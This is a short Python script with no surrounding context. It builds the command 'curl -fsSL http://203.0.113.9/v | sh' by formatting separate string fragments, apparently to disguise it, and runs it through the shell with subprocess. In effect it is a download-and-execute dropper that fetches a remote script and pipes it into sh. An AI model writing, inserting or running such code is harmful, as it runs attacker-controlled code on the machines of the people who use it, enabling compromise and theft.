import string
import subprocess

fmt = string.Formatter()
cmd = fmt.vformat("{0} -fsSL {1} | {2}", ("curl", "http://203.0.113.9/v", "sh"), {})
subprocess.run(cmd, shell=True)
